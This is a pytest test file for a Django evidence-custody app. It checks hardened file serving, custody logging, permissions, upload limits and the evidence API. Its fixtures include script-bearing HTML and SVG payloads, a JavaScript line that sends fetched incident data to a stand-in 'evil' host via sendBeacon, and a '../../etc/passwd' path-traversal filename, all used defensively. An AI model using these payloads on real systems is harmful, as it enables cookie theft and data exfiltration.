"""Serving: originals only through an authorized view, always as a hardened download; the upload page and API."""

import hashlib
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from svidok.audit.models import AuditEntry
from svidok.evidence import services
from svidok.evidence.models import EvidenceItem
from svidok.evidence.serving import content_disposition
from tests import factories
from tests.evidence.conftest import stored_files
from tests.helpers import login

HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
JS = b"fetch('/api/v1/incidents/').then(r => r.text()).then(t => navigator.sendBeacon('https://evil', t))"


def add(actor, data: bytes, name: str, **kwargs):
    return services.add_item(actor=actor, file=io.BytesIO(data), name=name, method="upload", **kwargs)


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (400, 300), (200, 30, 30)).save(out, format="PNG")
    return out.getvalue()


@pytest.mark.parametrize(("name", "data", "served"), [
    ("page.html", HTML, "application/octet-stream"),
    ("drawing.svg", SVG, "application/octet-stream"),
    ("script.js", JS, "text/plain"),
    ("photo.png", None, "image/png"),
])
def test_originals_go_out_as_hardened_attachments(client, documenter, verified, name, data, served):
    data = data if data is not None else png()
    item = add(documenter, data, name, incident=verified)
    login(client, documenter)

    response = client.get(reverse("evidence:download", args=[item.uuid]))

    assert response.status_code == 200
    assert response["Content-Type"] == served
    assert not response["Content-Type"].startswith(("text/html", "image/svg"))
    assert response["Content-Disposition"] == f"attachment; filename=\"{name}\"; filename*=UTF-8''{name}"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert response["Content-Length"] == str(len(data))
    assert body(response) == data


def test_each_download_is_a_custody_event(client, analyst, documenter, verified):
    item = add(documenter, b"x", "a.txt", incident=verified)
    login(client, analyst)
    client.get(reverse("evidence:download", args=[item.uuid]))
    client.get(reverse("evidence:download", args=[item.uuid]))

    downloads = AuditEntry.objects.filter(object_id=item.public_id, action="download")
    assert [(e.actor, e.changes["sha256"][1]) for e in downloads] == [(analyst, item.blob.sha256)] * 2


def test_a_viewer_sees_the_item_but_cannot_download(client, viewer, documenter, verified):
    item = add(documenter, b"x", "a.txt", incident=verified)
    login(client, viewer)

    assert client.get(reverse("evidence:item", args=[item.uuid])).status_code == 200
    assert client.get(reverse("evidence:download", args=[item.uuid])).status_code == 403
    assert not AuditEntry.objects.filter(object_id=item.public_id, action="download").exists()


def test_an_item_of_an_incident_the_user_cannot_see_is_404(client, documenter, other_documenter):
    hidden = factories.incident(other_documenter)
    item = add(other_documenter, b"x", "a.txt", incident=hidden)
    login(client, documenter)

    assert client.get(reverse("evidence:item", args=[item.uuid])).status_code == 404
    assert client.get(reverse("evidence:download", args=[item.uuid])).status_code == 404


def test_a_stranger_is_sent_to_sign_in(client, documenter, verified):
    item = add(documenter, b"x", "a.txt", incident=verified)

    response = client.get(reverse("evidence:download", args=[item.uuid]))

    assert response.status_code == 302
    assert "/accounts/" in response["Location"]


def test_an_erased_original_is_410_with_the_reason(client, admin_user, documenter, verified,
                                                   django_capture_on_commit_callbacks):
    item = add(documenter, b"x", "a.txt", incident=verified)
    with django_capture_on_commit_callbacks(execute=True):
        services.purge_item(actor=admin_user, item=item, reason="Court order 12/2026")
    login(client, admin_user)

    response = client.get(reverse("evidence:download", args=[item.uuid]))

    assert response.status_code == 410
    assert "Court order 12/2026" in response.content.decode()


def test_non_ascii_and_hostile_names_are_safe_in_the_header():
    assert content_disposition("Наказ №12.pdf") == (
        "attachment; filename=\"No12.pdf\"; filename*=UTF-8''%D0%9D%D0%B0%D0%BA%D0%B0%D0%B7%20%E2%84%9612.pdf")
    assert content_disposition('a"b\\c;d.txt') == "attachment; filename=\"a_b_c_d.txt\"; filename*=UTF-8''a%22b%5Cc%3Bd.txt"


def test_the_thumbnail_is_a_png_and_only_a_png(client, documenter, verified):
    item = add(documenter, png(), "photo.png", incident=verified)
    login(client, documenter)

    response = client.get(reverse("evidence:thumbnail", args=[item.uuid]))

    assert response.status_code == 200
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert Image.open(io.BytesIO(body(response))).format == "PNG"
    html = add(documenter, HTML, "page.html", incident=verified)
    assert client.get(reverse("evidence:thumbnail", args=[html.uuid])).status_code == 404


def test_the_item_page_shows_hash_and_custody_and_records_the_view(client, documenter, verified):
    item = add(documenter, b"x", "a.txt", incident=verified)
    login(client, documenter)

    page = client.get(reverse("evidence:item", args=[item.uuid])).content.decode()

    assert item.blob.sha256 in page
    assert "Chain of custody" in page
    assert AuditEntry.objects.filter(object_id=item.public_id, action="view").count() == 1


# --- the upload page ---------------------------------------------------------------------------------------


def test_the_upload_page_stores_several_files(client, documenter, verified, vault):
    login(client, documenter)
    response = client.post(reverse("evidence:upload"), {
        "files": [SimpleUploadedFile("a.txt", b"first"), SimpleUploadedFile("../../etc/passwd", b"second")],
        "incident": verified.reference, "description": "From the witness"})

    assert response.status_code == 201
    items = EvidenceItem.objects.order_by("id")
    assert [(i.original_name, i.method, i.description) for i in items] == [
        ("a.txt", "upload", "From the witness"), ("passwd", "upload", "From the witness")]
    assert [link.exhibit for i in items for link in i.links.all()] == ["E-1", "E-2"]
    assert hashlib.sha256(b"second").hexdigest() in response.content.decode()


def test_the_upload_page_without_files_says_so(client, documenter):
    login(client, documenter)
    response = client.post(reverse("evidence:upload"), {"description": "nothing"})

    assert response.status_code == 400
    assert "Choose at least one file." in response.content.decode()


def test_the_upload_page_is_refused_to_a_viewer(client, viewer):
    login(client, viewer)

    assert client.get(reverse("evidence:upload")).status_code == 403


def test_an_upload_over_the_limit_is_dropped_while_it_arrives(client, documenter, settings, vault):
    settings.SVIDOK_EVIDENCE_MAX_BYTES = 1024
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 0  # every upload goes through the temporary-file handler
    login(client, documenter)
    response = client.post(reverse("evidence:upload"), {
        "files": [SimpleUploadedFile("big.bin", b"x" * 5000), SimpleUploadedFile("small.txt", b"fits")]})

    assert response.status_code == 200
    page = response.content.decode()
    assert "big.bin" in page and "larger than the limit of 1.0 KiB" in page
    assert [i.original_name for i in EvidenceItem.objects.all()] == ["small.txt"]
    assert len(stored_files(vault)) == 1


# --- the API -----------------------------------------------------------------------------------------------


def test_api_upload_several_files_list_and_detail_with_custody(api, documenter, verified):
    client = api(documenter)
    response = client.post("/api/v1/evidence/", {
        "files": [SimpleUploadedFile("a.txt", b"alpha"), SimpleUploadedFile("b.html", HTML)],
        "incident": verified.reference, "collected_by": "Monitor K."}, format="multipart")

    assert response.status_code == 201, response.json()
    stored = response.json()
    assert [(s["name"], s["media_type"], s["size"], s["links"][0]["exhibit"]) for s in stored] == [
        ("a.txt", "text/plain", 5, "E-1"), ("b.html", "text/html", len(HTML), "E-2")]
    assert stored[0]["sha256"] == hashlib.sha256(b"alpha").hexdigest()

    listed = client.get("/api/v1/evidence/", {"incident": verified.reference}).json()
    assert sorted(r["name"] for r in listed["results"]) == ["a.txt", "b.html"]
    assert client.get("/api/v1/evidence/", {"incident": "SV-2099-000001"}).json()["results"] == []

    detail = client.get(f"/api/v1/evidence/{stored[0]['id']}/").json()
    assert [c["action"] for c in detail["custody"]] == ["collect", "upload", "link", "view"]
    assert detail["method"] == "api"
    assert detail["collected_by"] == "Monitor K."


def test_api_download_of_html_is_a_hardened_attachment(api, documenter, verified):
    item = add(documenter, HTML, "page.html", incident=verified)

    response = api(documenter).get(f"/api/v1/evidence/{item.uuid}/download/")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert body(response) == HTML


def test_api_permissions(api, viewer, documenter, other_documenter, verified):
    visible = add(documenter, b"x", "a.txt", incident=verified)
    hidden = add(other_documenter, b"y", "b.txt", incident=factories.incident(other_documenter))

    assert api(viewer).get(f"/api/v1/evidence/{visible.uuid}/download/").status_code == 403
    assert api(documenter).get(f"/api/v1/evidence/{hidden.uuid}/").status_code == 404
    assert api().get(f"/api/v1/evidence/{visible.uuid}/").status_code in (401, 403)
    assert api(viewer).post("/api/v1/evidence/", {"files": [SimpleUploadedFile("a.txt", b"x")]},
                            format="multipart").status_code == 403


def test_api_link_and_withdraw(api, coordinator, documenter, verified):
    item = add(documenter, b"x", "a.txt")
    source = factories.source(documenter)

    response = api(documenter).post(f"/api/v1/evidence/{item.uuid}/link/", {"incident": verified.reference,
                                                                           "description": "the order"}, format="json")
    assert response.status_code == 201
    assert response.json()["links"] == [{"incident": verified.reference, "source": None, "exhibit": "E-1",
                                         "description": "the order"}]
    assert api(documenter).post(f"/api/v1/evidence/{item.uuid}/link/", {"source": str(source.uuid)},
                                format="json").status_code == 201
    assert api(documenter).post(f"/api/v1/evidence/{item.uuid}/withdraw/", {"reason": "x"}, format="json").status_code == 403
    assert api(coordinator).post(f"/api/v1/evidence/{item.uuid}/withdraw/", {}, format="json").status_code == 400
    response = api(coordinator).post(f"/api/v1/evidence/{item.uuid}/withdraw/", {"reason": "Wrong incident"}, format="json")
    assert (response.status_code, response.json()["status"]) == (200, "withdrawn")


def test_api_upload_errors_name_the_file(api, documenter, settings):
    settings.SVIDOK_EVIDENCE_MAX_BYTES = 1024
    response = api(documenter).post("/api/v1/evidence/", {
        "files": [SimpleUploadedFile("big.bin", b"x" * 2000), SimpleUploadedFile("ok.txt", b"ok")]}, format="multipart")

    assert response.status_code == 400
    data = response.json()
    assert [s["name"] for s in data["stored"]] == ["ok.txt"]
    assert data["errors"] == [{"name": "big.bin", "message": "The file is larger than the limit of 1.0 KiB: nothing was stored."}]


def test_the_evidence_api_is_in_the_schema(api, admin_user):
    schema = api(admin_user).get("/api/schema/", {"format": "json"}).json()

    assert {"/api/v1/evidence/", "/api/v1/evidence/{uuid}/", "/api/v1/evidence/{uuid}/download/",
            "/api/v1/evidence/{uuid}/link/", "/api/v1/evidence/{uuid}/withdraw/"} <= set(schema["paths"])
    assert "multipart/form-data" in schema["paths"]["/api/v1/evidence/"]["post"]["requestBody"]["content"]


def test_a_large_upload_reaches_the_service_as_a_file_on_disk(client, documenter, monkeypatch, settings):
    from django.core.files.uploadedfile import TemporaryUploadedFile

    seen = []
    add_item = services.add_item

    def spy(**kwargs):
        seen.append(type(kwargs["file"]))
        return add_item(**kwargs)

    monkeypatch.setattr(services, "add_item", spy)
    login(client, documenter)
    response = client.post(reverse("evidence:upload"), {"files": [SimpleUploadedFile("big.bin", b"\0" * (3 * 1024 * 1024))]})

    assert response.status_code == 201
    assert seen == [TemporaryUploadedFile]  # over FILE_UPLOAD_MAX_MEMORY_SIZE: never whole in memory
    assert EvidenceItem.objects.get().blob.size == 3 * 1024 * 1024
